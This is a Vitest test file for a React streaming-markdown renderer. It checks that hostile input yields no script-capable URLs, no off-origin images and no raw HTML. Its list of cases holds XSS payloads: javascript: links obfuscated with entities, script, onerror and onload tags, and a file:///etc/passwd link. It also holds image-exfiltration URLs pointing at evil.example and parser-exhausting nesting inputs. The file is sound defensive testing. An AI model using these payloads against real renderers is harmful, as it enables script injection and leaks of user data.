import { describe, expect, test } from 'vitest'
import { render } from '@testing-library/react'
import { StreamingMarkdown } from './streaming-markdown.tsx'

const ALLOWED = 'https://cdn.example'

/** [what, hostile markdown]; none of these may produce a script-capable URL, a disallowed image or a raw HTML element. */
const hostile: Array<[string, string]> = [
  ['javascript: link', '[click](javascript:alert(1))'],
  ['mixed-case scheme', '[click](JaVaScRiPt:alert(1))'],
  ['tab entity inside the scheme', '[click](jav&#x09;ascript:alert(1))'],
  ['newline entity inside the scheme', '[click](java&#10;script:alert(1))'],
  ['decimal-entity scheme', '[click](&#106;avascript:alert(1))'],
  ['entity colon', '[click](javascript&colon;alert(1))'],
  ['leading tab', '[click](\tjavascript:alert(1))'],
  ['leading entity space', '[click](&#32;javascript:alert(1))'],
  ['angle-bracket destination with spaces', '[click](< javascript:alert(1)>)'],
  ['vbscript link', '[click](vbscript:msgbox(1))'],
  ['data: html link', '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)'],
  ['file link', '[click](file:///etc/passwd)'],
  ['javascript autolink', '<javascript:alert(1)>'],
  ['reference-style javascript link', '[click][r]\n\n[r]: javascript:alert(1)'],
  ['raw script', '<script>alert(1)</script>'],
  ['img onerror', '<img src=x onerror=alert(1)>'],
  ['svg onload', '<svg onload=alert(1)>'],
  ['iframe', '<iframe src="javascript:alert(1)"></iframe>'],
  ['inline html in a paragraph', 'hi <a href="javascript:alert(1)">x</a> there'],
  ['html block with a link inside', '<div>\n<a href="javascript:alert(1)">x</a>\n</div>'],
  ['exfiltration image', '![x](https://evil.example/?q=secret)'],
  ['reference-style image', '![x][r]\n\n[r]: https://evil.example/a.png'],
  ['protocol-relative image', '![x](//evil.example/a.png)'],
  ['backslash protocol-relative image', '![x](/\\evil.example/a.png)'],
  ['data: image', '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)'],
  ['javascript image', '![x](javascript:alert(1))'],
  ['autolinked bare image URL', 'see https://evil.example/a.png now'],
  ['image inside a link', '[![x](https://evil.example/a.png)](https://evil.example)'],
  ['image on an allowed-looking host', '![x](https://cdn.example.evil.example/a.png)'],
  ['image with userinfo trick', '![x](https://cdn.example@evil.example/a.png)'],
  ['image in a table cell', '| a |\n|---|\n| ![x](https://evil.example/t.png) |'],
  ['image in a code fence is only text', '```\n![x](https://evil.example/a.png)\n```'],
]

const SCRIPT_SCHEME = /^\s*(?:javascript|vbscript|data|file):/i
const RAW_ELEMENTS = 'script, iframe, svg, object, embed, style, form, [onerror], [onload], [onclick]'

function assertSafe(container: HTMLElement, source: string) {
  for (const element of container.querySelectorAll('[href], [src]')) {
    const url = element.getAttribute('href') ?? element.getAttribute('src') ?? ''
    expect(url, source).not.toMatch(SCRIPT_SCHEME)
  }
  for (const image of container.querySelectorAll('img')) {
    expect(new URL(image.getAttribute('src') ?? '').origin, source).toBe(ALLOWED)
  }
  expect(container.querySelector(RAW_ELEMENTS), source).toBeNull()
  // Markdown itself never makes a <div>: one outside our own parts could only come from raw HTML.
  for (const element of container.querySelectorAll('div')) {
    const part = element.getAttribute('data-rivulet')
    const ours = part === 'markdown' || part === 'markdown-group' || element.closest('[data-rivulet="code-block"]') !== null
    expect(ours, source).toBe(true)
  }
}

describe('StreamingMarkdown safety', () => {
  test('covers at least 25 hostile inputs', () => {
    expect(hostile.length).toBeGreaterThanOrEqual(25)
  })

  test.each(hostile)('renders %s safely at every prefix, streaming and finished', (_what, source) => {
    const { container, rerender } = render(<StreamingMarkdown streaming allowedImageOrigins={[ALLOWED]}>{''}</StreamingMarkdown>)
    for (let end = 1; end <= source.length; end++) {
      rerender(<StreamingMarkdown streaming allowedImageOrigins={[ALLOWED]}>{source.slice(0, end)}</StreamingMarkdown>)
      assertSafe(container, source.slice(0, end))
    }
    rerender(<StreamingMarkdown allowedImageOrigins={[ALLOWED]}>{source}</StreamingMarkdown>)
    assertSafe(container, source)
  })

  test('shows blocked links as plain text without an href', () => {
    const { container } = render(<StreamingMarkdown>{'[click me](JaVaScRiPt:alert(1))'}</StreamingMarkdown>)
    expect(container.querySelector('a')).toBeNull()
    expect(container.querySelector('[data-rivulet="blocked-link"]')?.textContent).toBe('click me')
  })

  test('shows raw HTML as visible text', () => {
    const { container } = render(<StreamingMarkdown>{'<script>alert(1)</script>'}</StreamingMarkdown>)
    expect(container.textContent).toContain('<script>alert(1)</script>')
  })

  test('turns a protocol-relative link into the https link it stands for', () => {
    const { container } = render(<StreamingMarkdown>{'[x](//evil.example/a)'}</StreamingMarkdown>)
    expect(container.querySelector('a')).toHaveAttribute('href', 'https://evil.example/a')
  })

  test('blocks reference-style and protocol-relative images with a placeholder naming the host', () => {
    const { container } = render(<StreamingMarkdown>{'![alt one][r] ![alt two](//evil.example/b.png)\n\n[r]: https://other.example/a.png'}</StreamingMarkdown>)
    expect(container.querySelector('img')).toBeNull()
    const placeholders = [...container.querySelectorAll('[data-rivulet="blocked-image"]')].map((el) => el.textContent)
    expect(placeholders).toEqual(['Image blocked: other.example (alt one)', 'Image blocked: evil.example (alt two)'])
  })

  test('never creates an img for a half-written image URL while streaming', () => {
    const source = '![chart](https://cdn.example/chart.png)'
    const { container, rerender } = render(<StreamingMarkdown streaming allowedImageOrigins={[ALLOWED]}>{''}</StreamingMarkdown>)
    const seen = new Set<string>()
    for (let end = 1; end <= source.length; end++) {
      rerender(<StreamingMarkdown streaming allowedImageOrigins={[ALLOWED]}>{source.slice(0, end)}</StreamingMarkdown>)
      for (const image of container.querySelectorAll('img')) seen.add(image.getAttribute('src') ?? '')
    }
    expect([...seen]).toEqual(['https://cdn.example/chart.png'])
  })
})

describe('StreamingMarkdown with hostile nesting', () => {
  const deep: Array<[string, string]> = [
    ['5,000 nested blockquotes', '>'.repeat(5000) + ' deep'],
    ['5,000 spaced blockquotes', '> '.repeat(5000) + 'deep'],
    ['5,000 nested bullets on one line', '- '.repeat(5000) + 'deep'],
    ['5,000 nested ordered items', '1. '.repeat(5000) + 'deep'],
    ['quotes and lists interleaved', '> - '.repeat(2500) + 'deep'],
    ['5,000 lines of indented list nesting', Array.from({ length: 5000 }, (_, i) => ' '.repeat(i * 2) + '- deep').join('\n')],
    ['5,000 nested brackets', '['.repeat(5000) + 'deep' + ']'.repeat(5000)],
    ['5,000 nested links', '['.repeat(5000) + 'deep' + '](x)'.repeat(5000)],
    ['5,000 nested images', '!['.repeat(5000) + 'deep' + '](x)'.repeat(5000)],
    ['10,000 stars of emphasis', '*'.repeat(5000) + 'deep' + '*'.repeat(5000)],
  ]

  // Generous timeout: the point is that it finishes instead of overflowing, not how fast (2 shared cores).
  test.each(deep)('renders %s without throwing', { timeout: 60_000 }, (_what, source) => {
    const { container } = render(<StreamingMarkdown streaming>{source}</StreamingMarkdown>)
    expect(container.textContent).toContain('deep')
    expect(container.querySelector('[data-rivulet="markdown-fallback"]')).toBeNull()
  })
})
